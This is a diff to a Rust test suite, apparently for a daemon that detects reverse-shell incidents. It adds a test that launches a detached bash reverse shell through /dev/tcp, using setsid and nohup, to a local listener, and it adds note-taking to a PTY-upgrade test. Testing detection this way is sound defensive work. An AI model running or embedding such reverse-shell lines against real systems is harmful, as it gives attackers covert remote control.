@@ -5,6 +5,7 @@ use std::process::{Command, Stdio};
 use crate::common::attacker::Listener;
 use crate::common::daemon::Daemon;
 use crate::common::expected::{Expected, prove, prove_session};
+use crate::common::notes::note;
 use crate::common::programs::program;
 use crate::common::token;
 use crate::common::victim::Victim;
@@ -142,6 +143,20 @@ fn a_launcher_that_ends() {
     prove(Daemon::shared(), &attacker, victim, &Expected::default());
 }
 
+/// The same with a session of its own and no terminal to hang up.
+#[test]
+fn a_launcher_that_ends_after_setsid_and_nohup() {
+    require!("bash", "setsid", "nohup");
+    Daemon::shared();
+    let attacker = Listener::tcp();
+    let port = attacker.port();
+    let line = format!("exec 5<>/dev/tcp/127.0.0.1/{port}; setsid nohup sh <&5 >&5 2>&5 & exit");
+    let mut victim = Victim::start("/bin/bash", &["-c", &line]);
+    victim.wait();
+    let session = attacker.accept();
+    prove_session(Daemon::shared(), session, victim, &Expected::default());
+}
+
 /// A PTY on top of the socket: what runs in it is on the timeline of the shell that opened it.
 #[test]
 fn pty_upgrade_stays_in_the_incident() {
@@ -160,9 +175,10 @@ fn pty_upgrade_stays_in_the_incident() {
     let token = token();
     let said = session.run(&format!("/usr/bin/printf {token}; tty"));
     assert!(said.contains("/dev/pts/"), "{said:?}");
-    Daemon::shared().wait_for("the command in the PTY", |record| {
+    let found = Daemon::shared().wait_for("the command in the PTY", |record| {
         record.peer_port() == Some(attacker.port()) && record.ran(&["/usr/bin/printf", &token])
     });
+    note(Daemon::shared(), &found);
     prove_session_ends(session, victim);
 }
 
